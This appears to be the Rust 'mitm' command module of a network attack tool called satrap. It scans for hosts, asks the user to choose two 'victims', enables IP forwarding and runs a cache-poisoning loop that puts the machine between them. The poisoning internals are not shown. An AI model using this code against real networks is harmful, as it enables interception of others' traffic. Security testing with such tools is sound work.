use std::net::Ipv4Addr;

use anyhow::{Context, bail};
use colored::*;
use satrap_common::config::EngineConfig;
use satrap_common::network::host::Host;
use satrap_common::system;
use satrap_core::cancel;
use satrap_core::poisoner::{CachePoisoner, PoisonError};

use crate::commands::{self, CommandLine, MitmArgs, scan};
use crate::terminal::{colors, print, prompt};

pub async fn mitm(cli: &CommandLine, args: &MitmArgs, cfg: EngineConfig) -> anyhow::Result<()> {
    let targets = args.targets()?;
    print::header("getting ready for mitm");
    let (local, transport) = commands::open_link(cli, &cfg)?;
    let cancel = commands::cancel_on_ctrl_c();

    let (transport, (target_a, target_b)) = match targets {
        Some(targets) => (transport, targets),
        None => {
            let (hosts, transport) = scan::discover_hosts(&local, transport, cfg, cancel.clone()).await?;
            if cancel::is_cancelled(&cancel) {
                bail!("interrupted before any target was chosen");
            }
            (transport, choose_targets(hosts).await?)
        }
    };

    if args.forward {
        system::enable_ip_forwarding().context("enabling IPv4 forwarding")?;
    }

    print::header("poisoning");
    print::print_status(format!(
        "Placing {} between {} and {}, Ctrl-C to stop",
        local.mac.to_string().color(colors::MAC_ADDR),
        target_a.to_string().color(colors::IPV4_ADDR),
        target_b.to_string().color(colors::IPV4_ADDR),
    ));

    let endpoint = local.endpoint();
    let running = cancel.clone();
    let cycles = tokio::task::spawn_blocking(move || -> Result<u64, PoisonError> {
        let mut transport = transport;
        let mut poisoner = CachePoisoner::new(&mut transport, &cfg);
        let session = poisoner.establish(endpoint, target_a, target_b)?;
        poisoner.run(&session, &running)
    })
    .await
    .context("poisoning task failed")??;

    print::fat_separator();
    print::print_status(format!("Stopped after {} poisoning cycle(s)", cycles.to_string().bold()));
    Ok(())
}

async fn choose_targets(mut hosts: Vec<Host>) -> anyhow::Result<(Ipv4Addr, Ipv4Addr)> {
    if hosts.len() < 2 {
        bail!("found {} live host(s), need two to sit between", hosts.len());
    }
    hosts.sort_by_key(|host| host.ip);
    print::header("choose two victims");
    scan::print_hosts(&hosts);

    tokio::task::spawn_blocking(move || -> anyhow::Result<(Ipv4Addr, Ipv4Addr)> {
        let first = prompt::ask_target("First victim", &hosts, None)?;
        let second = prompt::ask_target("Second victim", &hosts, Some(first))?;
        Ok((first, second))
    })
    .await
    .context("prompt task failed")?
}
